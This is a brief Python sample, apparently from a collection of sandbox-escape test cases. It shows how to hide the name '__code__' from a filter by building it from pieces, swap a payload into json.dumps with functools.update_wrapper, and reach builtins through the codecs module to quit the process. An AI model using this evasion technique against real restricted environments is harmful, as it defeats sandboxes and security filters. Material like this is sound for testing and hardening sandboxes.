# family: interactive builtins
# escape: update_wrapper(*args) hides the "__code__" name; json.dumps then runs the payload with json's globals,
# where `codecs` is defined, so codecs.builtins.quit() (site's Quitter) closes stdin and exits the process.
import functools
import json

def payload(obj, *args, **kwargs):
    return codecs.builtins.quit(obj)

def tool(status: int = 0, word: str = "code"):
    functools.update_wrapper(*(json.dumps, payload, ("__" + word + "__",), ()))
    return json.dumps(status)
